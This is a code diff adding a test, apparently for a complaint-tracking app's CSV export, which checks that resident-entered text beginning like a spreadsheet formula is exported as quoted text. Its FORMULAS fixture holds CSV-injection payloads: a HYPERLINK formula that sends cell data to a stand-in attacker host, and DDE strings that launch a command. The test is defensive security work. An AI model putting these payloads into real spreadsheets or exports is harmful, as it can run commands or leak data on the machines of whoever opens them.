@@ -77,3 +77,52 @@ def test_export_reads_in_batches_without_losing_or_repeating_cases(
         lines = list(csv_lines(session, user, batch=2))
     exported = list(csv.DictReader(io.StringIO("".join(lines))))
     assert [r["tracking_code"] for r in exported] == list(reversed(codes))
+
+
+FORMULAS = [
+    '=HYPERLINK("http://evil.example/?x="&A1,"x") jalan rusak',
+    "+cmd|' /C calc'!A0 jalan rusak",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+]
+
+
+def test_resident_text_starting_like_a_formula_is_exported_as_text(
+    client: TestClient, settings: Settings
+) -> None:
+    """Text and address cells starting with = + - @ (or a tab or CR) get a leading quote;
+    other text and the coordinates are exported as they are."""
+    import sqlalchemy as sa
+
+    from core.db import get_engine
+
+    create_staff(settings, "sup", "supervisor")
+    sup = login(client, "sup")
+    codes = {
+        file_complaint(client, text=text, address=text, lat=-6.99, lon=110.42)[
+            "tracking_code"
+        ]: text
+        for text in FORMULAS
+    }
+    plain = file_complaint(client, address="Jl. Pemuda -3")["tracking_code"]
+    # the forms strip spaces around what a resident types, so a tab or CR first can only be
+    # in a row stored otherwise (an older version, a database tool)
+    tab = file_complaint(client, text=RUBBISH)["tracking_code"]
+    with get_engine(settings.database_url).begin() as connection:
+        connection.execute(
+            sa.text("UPDATE cases SET address = :tab, text = :cr WHERE tracking_code = :code"),
+            {"tab": "\t=1+1", "cr": "\r=1+1 " + RUBBISH, "code": tab},
+        )
+    response = client.get("/api/v1/cases/export.csv", headers=sup)
+    assert response.status_code == 200
+    exported = {row["tracking_code"]: row for row in rows(response)}
+    for code, text in codes.items():
+        assert exported[code]["text"] == "'" + text
+        assert exported[code]["address"] == "'" + text
+        assert (exported[code]["latitude"], exported[code]["longitude"]) == ("-6.99", "110.42")
+    assert exported[plain]["text"].startswith("Jalan berlubang")
+    assert exported[plain]["address"] == "Jl. Pemuda -3"
+    assert exported[tab]["address"] == "'\t=1+1"
+    assert exported[tab]["text"] == "'\r=1+1 " + RUBBISH
+    every_cell = [cell for row in exported.values() for cell in row.values()]
+    assert not [cell for cell in every_cell if cell[:1] in ("=", "+", "@", "\t", "\r")]
